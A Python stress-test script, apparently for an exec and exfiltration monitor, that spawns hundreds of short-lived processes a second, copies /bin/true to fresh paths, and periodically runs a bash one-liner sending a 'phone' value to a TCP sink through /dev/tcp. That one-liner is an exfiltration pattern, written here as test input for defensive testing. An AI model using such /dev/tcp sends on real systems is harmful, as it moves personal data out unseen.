#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only
"""Many short-lived processes: RATE execs a second for SECONDS. Most run /bin/true; every
NEW-th runs a fresh copy of it (a file the monitor has not examined: an exec notice and a
hold); every SEND-th is a bash that sends one message with a registered value through
/dev/tcp and exits. Prints "spawned N new F senders K" and writes the senders' pids, one a
line, to PIDFILE.
"""
import argparse
import os
import shutil
import sys
import time


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--rate", type=float, default=167)
    ap.add_argument("--seconds", type=float, default=30)
    ap.add_argument("--new-every", type=int, default=10)
    ap.add_argument("--send-every", type=int, default=25)
    ap.add_argument("--dst", required=True, help="IP:PORT of a raw sink")
    ap.add_argument("--value", required=True)
    ap.add_argument("--dir", required=True, help="where the fresh copies go")
    ap.add_argument("--pidfile", required=True)
    a = ap.parse_args()
    host, port = a.dst.rsplit(":", 1)
    msg = '{"phone":"%s","from":"exec storm"}' % a.value
    send = ["/bin/bash", "-c", 'printf %%s "$0" >/dev/tcp/%s/%s' % (host, port), msg]
    env = {"PATH": "/usr/bin:/bin"}
    n = new = 0
    senders = []
    live = set()
    bad = 0  # processes that failed
    t0 = time.monotonic()
    while time.monotonic() - t0 < a.seconds:
        if n % a.send_every == a.send_every - 1:
            pid = os.posix_spawn(send[0], send, env)
            senders.append(pid)
        elif n % a.new_every == a.new_every - 1:
            path = os.path.join(a.dir, "t%d" % n)
            shutil.copy("/bin/true", path)
            pid = os.posix_spawn(path, [path], env)
            new += 1
        else:
            pid = os.posix_spawn("/bin/true", ["/bin/true"], env)
        live.add(pid)
        n += 1
        while live:
            pid, st = os.waitpid(-1, os.WNOHANG)
            if not pid:
                break
            live.discard(pid)
            bad += st != 0
        ahead = n / a.rate - (time.monotonic() - t0)
        if ahead > 0:
            time.sleep(ahead)
    for pid in list(live):
        _, st = os.waitpid(pid, 0)
        bad += st != 0
    with open(a.pidfile, "w") as f:
        f.write("".join("%d\n" % p for p in senders))
    print("spawned %d new %d senders %d failed %d" % (n, new, len(senders), bad))
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
